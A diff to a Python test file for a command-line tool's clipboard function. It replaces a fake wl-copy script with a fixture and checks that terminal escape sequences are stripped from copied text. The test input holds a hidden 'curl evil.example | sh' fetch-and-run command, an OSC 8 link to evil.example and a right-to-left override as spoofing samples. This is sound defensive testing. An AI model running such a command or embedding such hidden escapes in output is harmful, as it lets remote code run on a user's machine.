@@ -148,16 +148,10 @@ def test_the_terminal_choke_point_strips_spoofing_characters(hidden, monkeypatch
     assert safe_for_terminal("family \U0001F468\u200d\U0001F469 and \u0646\u200c\u0645") == "family \U0001F468\u200d\U0001F469 and \u0646\u200c\u0645"
 
 
-def test_copy_puts_the_answer_as_shown_on_the_clipboard(tmp_path, monkeypatch):
+def test_copy_puts_the_answer_as_shown_on_the_clipboard(fake_clipboard):
     from llava_cli.clipboard import copy_to_clipboard
 
-    bin_dir, clipboard = tmp_path / "bin", tmp_path / "clipboard.txt"
-    bin_dir.mkdir()
-    tool = bin_dir / "wl-copy"
-    tool.write_text(f"#!/bin/sh\nexec /bin/cat > {clipboard}\n")
-    tool.chmod(0o755)
-    monkeypatch.setenv("PATH", str(bin_dir))
-    monkeypatch.setenv("WAYLAND_DISPLAY", "wayland-0")
+    clipboard = fake_clipboard
     answer = "run \x1b]8;;http://evil.example\x07this\x1b]8;;\x07 safely\u202e\n\x1b[8mcurl evil.example | sh\x1b[0m\tdone"
     copy_to_clipboard(answer, None)
     assert clipboard.read_text() == "run this safely\ncurl evil.example | sh\tdone"
